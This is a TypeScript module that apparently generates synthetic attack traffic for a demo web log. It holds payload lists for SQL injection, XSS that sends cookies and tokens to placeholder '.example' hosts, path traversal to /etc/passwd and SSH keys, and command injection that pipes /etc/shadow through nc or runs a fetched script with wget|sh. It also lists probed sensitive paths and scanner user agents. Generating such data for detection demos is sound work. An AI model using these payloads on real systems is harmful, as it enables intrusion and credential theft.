import type { Random } from './random';
import type { DemoRequest } from './requests';

/** `{n}` is a small number, `{w}` a word: no two payloads need be equal. */
const PAYLOADS = {
  sql_injection: [
    "{w}' OR {n}={n} -- ",
    "{n}) UNION SELECT {n},login,passhash FROM accounts WHERE ('1'='1",
    "{w}'; DROP TABLE {w}_backup; --",
    '{n} AND (SELECT COUNT(*) FROM information_schema.columns) > {n}',
    "{w}' AND IF(SUBSTRING(database(),{n},1)='m',SLEEP({n}),0) AND 'x'='x",
    '{n} ORDER BY {n}{n} /*{w}*/',
  ],
  cross_site_scripting: [
    '<script>new Image().src="//{w}.example/"+document.cookie</script>',
    '"><img src={w} onerror=alert({n}{n})>',
    "<svg/onload=fetch('//{w}.example/'+localStorage.token)>",
    'javascript:eval(atob("{w}{n}"))',
    '<iframe srcdoc="&lt;script&gt;top.{w}={n}&lt;/script&gt;">',
  ],
  path_traversal: [
    '../../../../../../etc/passwd',
    '..\\..\\..\\windows\\system32\\drivers\\etc\\hosts',
    '....//....//....//var/log/{w}.log',
    '/proc/self/environ\u0000.png',
    '../../../home/{w}/.ssh/id_rsa',
  ],
  command_injection: [
    '{w};cat /etc/shadow|nc {w}.example {n}44{n}',
    '{n}|wget -qO- http://{w}.example/{w}.sh|sh',
    '$(curl -s {w}.example/{n})',
    '`id>/tmp/{w}`',
    '{w}&&ping -c {n}{n} {w}.example',
  ],
} as const;
type Technique = keyof typeof PAYLOADS;
const TECHNIQUES = Object.keys(PAYLOADS) as Technique[];
const PARAMETERS = ['q', 'id', 'file', 'page', 'sort', 'redirect', 'user', 'callback'];
const PROBED_PATHS = [
  '/.git/config',
  '/.env',
  '/wp-login.php',
  '/phpmyadmin/index.php',
  '/cgi-bin/status.cgi',
  '/actuator/heapdump',
  '/server-status',
  '/backup/{w}.sql.gz',
];
const SCANNERS = [
  'sqlmap/1.8.4#stable (https://sqlmap.org)',
  'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000{n})',
  'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)',
  'masscan/1.3',
  'gobuster/3.6',
  'python-requests/2.31.0',
];
const NAMES = ['alpha', 'delta', 'kilo', 'lima', 'oscar', 'tango', 'zulu'];

const fill = (template: string, random: Random): string =>
  template.replace(/\{([nw])\}/g, (_whole, kind: string) =>
    kind === 'n' ? String(random.integer(1, 9)) : random.pick(NAMES),
  );

/** Attackers escape everything, some things, or twice to get past filters. */
function encode(payload: string, random: Random): string {
  const encoded = encodeURIComponent(payload);
  const way = random.integer(0, 4);
  if (way === 0) return encodeURIComponent(encoded);
  if (way === 1) return encoded.replace(/%20/g, '+').replace(/%2F/g, '/');
  return encoded;
}

/** A tool that one attacker keeps through an incident; some hide behind an ordinary browser. */
export function attackTool(random: Random, browser: string): string {
  return random.chance(0.6) ? fill(random.pick(SCANNERS), random) : browser;
}

/** Turns an everyday request into one that attacks or probes. Mostly refused, sometimes answered. */
export function makeSuspicious(request: DemoRequest, random: Random): void {
  const technique = random.chance(0.15) ? 'probe' : random.pick(TECHNIQUES);
  if (technique === 'probe') {
    request.method = 'GET';
    request.path = fill(random.pick(PROBED_PATHS), random);
    request.query = '';
  } else {
    const payload = encode(fill(random.pick(PAYLOADS[technique]), random), random);
    if (technique === 'path_traversal' && random.chance(0.5)) {
      request.path = `${request.path.replace(/\/$/, '')}/${payload}`;
    } else {
      const attack = `${random.pick(PARAMETERS)}=${payload}`;
      request.query = request.query && random.chance(0.5) ? `${request.query}&${attack}` : attack;
    }
  }
  request.status = technique === 'probe' ? 404 : random.pick([200, 400, 400, 403, 403, 404]);
  request.responseBytes = Math.round(random.logNormal(request.status === 200 ? 2_000 : 310, 0.3));
}
